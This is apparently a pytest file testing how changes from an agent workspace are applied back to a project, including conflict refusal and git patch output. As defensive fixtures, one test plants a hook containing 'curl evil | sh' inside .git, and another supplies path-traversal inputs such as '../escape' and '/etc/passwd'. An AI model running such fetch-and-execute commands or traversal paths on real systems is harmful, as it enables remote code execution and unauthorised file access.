"""backend.apply_back: change sets from a workspace, git patches, and an apply that refuses conflicts."""

from __future__ import annotations

import os
import shutil
import subprocess
from pathlib import Path

import pytest

from backend.apply_back import ApplyConflict, ApplyError, ChangeSet, FileState, apply_changes, git_quote
from tools.workspace import Workspace, WorkspaceStore


def tree(root: Path) -> dict[str, object]:
    """Every file (bytes, exec bit) and symlink (target) under ``root``, and every directory."""
    out: dict[str, object] = {}
    for dirpath, dirnames, filenames in os.walk(root):
        rel = os.path.relpath(dirpath, root)
        if ".git" in Path(rel).parts:
            continue
        for d in dirnames:
            p = os.path.join(dirpath, d)
            key = os.path.normpath(os.path.join(rel, d))
            out[key] = ("link", os.readlink(p)) if os.path.islink(p) else "dir"
        for f in filenames:
            p = os.path.join(dirpath, f)
            key = os.path.normpath(os.path.join(rel, f))
            if os.path.islink(p):
                out[key] = ("link", os.readlink(p))
            else:
                out[key] = (Path(p).read_bytes(), os.access(p, os.X_OK))
    out.pop(".git", None)
    return out


@pytest.fixture
def project(tmp_path: Path) -> Path:
    src = tmp_path / "proj"
    (src / "pkg").mkdir(parents=True)
    (src / "gone").mkdir()
    (src / "a.txt").write_text("one\ntwo\nthree\n")
    (src / "pkg" / "mod.py").write_text("x = 1\n")
    (src / "gone" / "old.txt").write_text("bye\n")
    (src / "run.sh").write_text("#!/bin/sh\necho hi\n")
    (src / "blob.bin").write_bytes(bytes(range(256)) * 4)
    (src / "link").symlink_to("a.txt")
    (src / "becomes_dir").write_text("a file at first\n")
    return src


def session_edits(ws: Workspace) -> None:
    """What an agent might do: edit, create (nested, binary, exec, symlink), delete, chmod, retype."""
    root = ws.root
    (root / "a.txt").write_text("one\nTWO\nthree\n")
    (root / "new" / "deep").mkdir(parents=True)
    (root / "new" / "deep" / "n.py").write_text("print('new')")  # no newline at the end
    (root / "pkg" / "mod.py").unlink()
    shutil.rmtree(root / "gone")
    (root / "run.sh").chmod(0o644)
    (root / "tool.sh").write_text("#!/bin/sh\n")
    (root / "tool.sh").chmod(0o755)
    (root / "blob.bin").write_bytes(bytes(range(255, -1, -1)) * 8 + b"\0")
    (root / "link").unlink()
    (root / "link").symlink_to("pkg")
    (root / "becomes_dir").unlink()
    (root / "becomes_dir").mkdir()
    (root / "becomes_dir" / "inner.txt").write_text("now a directory\n")
    (root / "sp ace é.txt").write_text("odd name\n")
    (root / "empty.txt").write_bytes(b"")


@pytest.fixture
def store(tmp_path: Path) -> WorkspaceStore:
    return WorkspaceStore(tmp_path / "store")


def test_apply_makes_the_original_equal_to_the_workspace(project: Path, store: WorkspaceStore) -> None:
    ws = store.from_dir(project)
    session_edits(ws)
    changes = ChangeSet.from_workspace(ws)
    kinds = {c.path: c.kind for c in changes.changes}
    assert kinds["a.txt"] == "modified" and kinds["pkg/mod.py"] == "deleted" and kinds["new/deep/n.py"] == "added"
    assert "gone" in changes.removed_dirs
    result = apply_changes(changes, project)
    assert tree(project) == tree(ws.root)
    assert not (project / "gone").exists()  # the directory the session removed went too
    assert (project / "pkg").is_dir()  # an emptied directory the session kept stays
    assert result.written and result.deleted and "applied to" in result.summary()
    again = apply_changes(changes, project)  # applying twice is a no-op
    assert not again.written and not again.deleted and "nothing to apply" in again.summary()


@pytest.mark.parametrize("edit", ["edit", "create", "delete", "chmod", "symlink_dir"])
def test_a_changed_original_is_refused_and_left_untouched(
        project: Path, store: WorkspaceStore, edit: str) -> None:
    ws = store.from_dir(project)
    session_edits(ws)
    changes = ChangeSet.from_workspace(ws)
    if edit == "edit":
        (project / "a.txt").write_text("the user's own edit\n")
    elif edit == "create":
        (project / "tool.sh").write_text("the user made this too\n")
    elif edit == "delete":
        (project / "pkg" / "mod.py").write_text("changed, then the session deletes it\n")
    elif edit == "chmod":
        (project / "a.txt").chmod(0o755)
    else:  # a symlink now where the session writes through a directory: never followed
        outside = project.parent / "outside"
        outside.mkdir()
        (project / "new").symlink_to(outside)
    before = tree(project)
    with pytest.raises(ApplyConflict) as info:
        apply_changes(changes, project)
    assert tree(project) == before
    message = str(info.value)
    assert "nothing was written" in message and "\n" not in message
    if edit == "symlink_dir":
        assert not any((project.parent / "outside").iterdir())
        assert "in the way" in message
    else:
        assert {"edit": "a.txt", "create": "tool.sh", "delete": "pkg/mod.py", "chmod": "a.txt"}[edit] in message


def test_an_untouched_file_that_changed_is_not_a_conflict(project: Path, store: WorkspaceStore) -> None:
    ws = store.from_dir(project)
    (ws.root / "a.txt").write_text("session\n")
    (project / "run.sh").write_text("the user's edit of a file the session never touched\n")
    apply_changes(ChangeSet.from_workspace(ws), project)
    assert (project / "a.txt").read_text() == "session\n"
    assert (project / "run.sh").read_text().startswith("the user's edit")


def test_expected_states_let_a_second_apply_follow_the_first(project: Path, store: WorkspaceStore) -> None:
    ws = store.from_dir(project)
    (ws.root / "a.txt").write_text("first\n")
    first = ChangeSet.from_workspace(ws)
    apply_changes(first, project)
    (ws.root / "a.txt").write_text("second\n")
    second = ChangeSet.from_workspace(ws)
    with pytest.raises(ApplyConflict):
        apply_changes(second, project)  # against the session's start, a.txt changed
    apply_changes(second, project, expected={c.path: c.new for c in first.changes})
    assert (project / "a.txt").read_text() == "second\n"


def test_changes_inside_git_are_never_applied(project: Path, store: WorkspaceStore) -> None:
    (project / ".git" / "hooks").mkdir(parents=True)
    ws = store.from_dir(project)
    (ws.root / ".git" / "hooks" / "pre-commit").write_text("#!/bin/sh\ncurl evil | sh\n")
    (ws.root / "a.txt").write_text("fine\n")
    changes = ChangeSet.from_workspace(ws)
    assert changes.skipped == (".git/hooks/pre-commit",) and [c.path for c in changes.changes] == ["a.txt"]
    assert ".git" not in changes.patch()
    apply_changes(changes, project)
    assert not (project / ".git" / "hooks" / "pre-commit").exists()
    bad = {"changes": [{"path": ".git/config", "new": FileState("file", b"x").to_json(), "old": None}]}
    with pytest.raises(ApplyError, match="inside .git"):
        ChangeSet.from_json(bad)


@pytest.mark.parametrize("path", ["../escape", "/etc/passwd", "a/../../b", "a//b", ""])
def test_unsafe_paths_from_the_wire_are_refused(path: str) -> None:
    bad = {"changes": [{"path": path, "new": FileState("file", b"x").to_json(), "old": None}]}
    with pytest.raises(ApplyError, match="unsafe path"):
        ChangeSet.from_json(bad)


def test_json_round_trip_keeps_every_byte(project: Path, store: WorkspaceStore) -> None:
    ws = store.from_dir(project)
    session_edits(ws)
    (ws.root / os.fsdecode(b"raw\xff.txt")).write_bytes(b"\xff\xfe")
    changes = ChangeSet.from_workspace(ws)
    assert ChangeSet.from_json(changes.to_json()) == changes


def _git(cwd: Path, *args: str, check: bool = True) -> subprocess.CompletedProcess[str]:
    return subprocess.run(["git", "-c", "user.email=t@t", "-c", "user.name=t", *args], cwd=cwd, capture_output=True,
                          text=True, check=check)


@pytest.mark.skipif(shutil.which("git") is None, reason="git is not installed")
def test_patch_is_accepted_by_git_apply_and_gives_the_same_tree(project: Path, store: WorkspaceStore,
                                                                 tmp_path: Path) -> None:
    ws = store.from_dir(project)
    session_edits(ws)
    (ws.root / os.fsdecode(b"raw\xff name.txt")).write_bytes(b"not utf-8 name\n")
    (ws.root / 'quo"te\\.txt').write_text("quoted\n")
    (ws.root / "big.txt").write_text("line\n" * 300_000)  # over the text-diff limit: a binary literal
    patch = ChangeSet.from_workspace(ws).patch()
    repo = tmp_path / "repo"
    shutil.copytree(project, repo, symlinks=True)
    _git(repo, "init", "-q")
    _git(repo, "add", "-A")
    _git(repo, "commit", "-qm", "start")
    (tmp_path / "s.patch").write_text(patch)
    check = _git(repo, "apply", "--check", str(tmp_path / "s.patch"), check=False)
    assert check.returncode == 0, check.stderr
    _git(repo, "apply", str(tmp_path / "s.patch"))
    files = lambda root: {k: v for k, v in tree(root).items() if v != "dir"}  # noqa: E731 (git drops empty dirs)
    assert files(repo) == files(ws.root)
    back = _git(repo, "apply", "-R", "--check", str(tmp_path / "s.patch"), check=False)  # reversible too
    assert back.returncode == 0, back.stderr


def test_git_quote() -> None:
    assert git_quote("a/plain name.txt") == "a/plain name.txt"
    assert git_quote('a/"q"') == '"a/\\"q\\""'
    assert git_quote(os.fsdecode(b"a/\xff\n")) == '"a/\\377\\n"'
    assert git_quote("a/é") == '"a/\\303\\251"'


def test_an_empty_change_set_is_falsy(project: Path, store: WorkspaceStore) -> None:
    ws = store.from_dir(project)
    changes = ChangeSet.from_workspace(ws)
    assert not changes and changes.patch() == "" and changes.summary() == "0 file(s)"


def test_a_missing_original_is_a_clear_error(project: Path, store: WorkspaceStore, tmp_path: Path) -> None:
    ws = store.from_dir(project)
    (ws.root / "a.txt").write_text("x\n")
    with pytest.raises(ApplyError, match="is not a directory"):
        apply_changes(ChangeSet.from_workspace(ws), tmp_path / "nowhere")
